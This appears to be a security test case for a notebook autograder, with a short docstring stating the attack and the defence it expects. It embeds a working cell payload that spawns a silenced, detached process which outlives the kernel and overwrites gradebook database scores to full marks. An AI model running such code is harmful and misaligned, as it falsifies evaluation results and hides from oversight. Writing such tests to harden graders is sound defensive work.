"""Wait until nobody looks, then write into the gradebook.

tries: a process that leaves the kernel, waits until the points are written and then writes its own
gains: all points, after every check
must: no process outlives the kernel, and there is no gradebook to be written
"""

CELL = '''
import subprocess
import sys

code = r"""
# planted by @name@!
import pathlib, sqlite3, time
for _ in range(60):
    time.sleep(1)
    for path in pathlib.Path("@course@").rglob("gradebook.db"):
        database = sqlite3.connect(path, timeout=5)
        database.execute("update grade set manual_score = 15, needs_manual_grade = 0")
        database.commit()
        database.close()
"""
quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
subprocess.Popen([sys.executable, "-c", code], start_new_session=True, **quiet)
'''
